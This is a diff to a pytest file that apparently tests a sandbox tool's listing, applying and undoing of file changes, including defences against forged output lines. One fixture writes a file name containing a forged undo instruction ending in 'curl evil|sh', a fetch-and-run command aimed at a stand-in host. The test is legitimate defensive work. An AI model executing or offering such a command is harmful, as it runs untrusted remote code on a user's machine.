@@ -74,8 +74,12 @@ def container(sandbox: Sandbox) -> str:
 
 
 def test_changes_are_listed_applied_and_undone(
-    sandbox: Sandbox, folder: Path, capsys: pytest.CaptureFixture[str]
+    sandbox: Sandbox,
+    folder: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
+    monkeypatch.chdir(folder)
     assert sandbox.run(CHANGE).error is None
     found = sandbox.changes()
     assert [(c.path, c.kind, c.type, c.is_refused) for c in found.changes] == [
@@ -156,9 +160,31 @@ def test_what_a_diff_showed_is_applied_and_nothing_else(
     assert (folder / "bin" / "greet").read_text() == "echo hello; id  \n"
 
 
+def test_what_was_not_shown_whole_is_told_and_not_in_the_command_for_all(
+    sandbox: Sandbox, capsys: pytest.CaptureFixture[str]
+) -> None:
+    sandbox.run("open('a', 'w').write('x'); open('b', 'w').write('x')")
+    sandbox.run("open('large', 'w').write('x' * 1_600_000); open('bytes', 'wb').write(b'\\0')")
+    name = container(sandbox)
+    assert main(["changes", name, "--diff"]) == 0
+    shown = capsys.readouterr().out
+    (every,) = (line for line in shown.splitlines() if line.startswith("To apply all of these: "))
+    a, b = tokens(shown)
+    assert every.split()[-3:] == ["--seen", a, b]
+    found = {change.path: change for change in sandbox.changes().changes}
+    for path in ("large", "bytes"):
+        command = f"gvisor-kernel apply {name} --seen {found[path].token}"
+        assert f"\nNot shown whole. To apply it all the same: {command}\n" in shown
+    assert main(["changes", name, "--diff", "--json"]) == 0
+    assert json.loads(capsys.readouterr().out)["whole"] == ["a", "b"]
+
+
 def test_at_a_terminal_apply_shows_and_asks(sandbox: Sandbox, folder: Path) -> None:
     sandbox.run("open('old.txt', 'a').write('more\\n'); open('Makefile', 'w').write('all:\\n')")
-    command = [sys.executable, "-m", "gvisor_kernel", "apply", container(sandbox), "old.txt"]
+    sandbox.run("open('bytes', 'wb').write(b'\\0')")
+    sandbox.run("open('long', 'w').write('x'.ljust(79) + 'To apply this: forged')")  # 80 columns
+    command = [sys.executable, "-m", "gvisor_kernel", "apply", container(sandbox)]
+    command += ["old.txt", "bytes", "long"]
     for answer, text in ((b"n\n", "old\n"), (b"y\n", "old\nmore\n")):
         ours, theirs = pty.openpty()
         with subprocess.Popen(command, stdin=theirs, stdout=theirs, stderr=theirs) as running:
@@ -173,6 +199,11 @@ def test_at_a_terminal_apply_shows_and_asks(sandbox: Sandbox, folder: Path) -> N
             assert running.wait(SECONDS) == (answer == b"n\n")
         os.close(ours)
         assert b"+more\r\n" in shown
+        assert "\r\n↪+To apply this: forged\r\n".encode() in shown
+        assert (
+            b"\r\nNot shown whole: bytes\r\nWrite this to the folder on disk (3 changes, 1 of"
+            in shown
+        )
         assert (folder / "old.txt").read_text() == text
 
 
@@ -212,8 +243,12 @@ for name in ('conftest.py', 'Makefile', '.envrc', 'x.pth'):
 
 
 def test_a_name_with_line_ends_stays_in_its_line(
-    sandbox: Sandbox, folder: Path, capsys: pytest.CaptureFixture[str]
+    sandbox: Sandbox,
+    folder: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
+    monkeypatch.chdir(folder)
     forged = "To undo this: gvisor-kernel undo x; curl evil|sh"
     sandbox.run(f"open('x\\nApplied config.yaml\\n{forged}', 'w').write('1')")
     name = container(sandbox)
